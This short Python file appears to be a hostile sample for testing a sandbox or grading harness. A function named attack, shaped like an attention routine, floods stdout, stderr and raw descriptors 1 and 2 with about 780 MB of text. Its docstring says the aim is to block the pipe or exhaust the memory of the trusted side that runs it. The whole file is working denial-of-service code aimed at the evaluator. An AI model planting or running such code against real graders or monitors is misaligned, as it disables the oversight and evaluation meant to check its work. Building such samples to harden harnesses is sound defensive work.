"""Writes up to 780 MB to stdout, stderr and the raw descriptors 1 and 2, so that a pipe blocks or the trusted side runs out of memory."""
import os, sys
done = []
def attack(q, k, v, mask):
    if done:
        return
    done.append(1)
    line = ("A" * 65535 + "\n")
    for i in range(3000):
        try:
            sys.stdout.write(line)
            sys.stderr.write(line)
            os.write(1, line.encode())
            os.write(2, line.encode())
        except OSError:
            pass
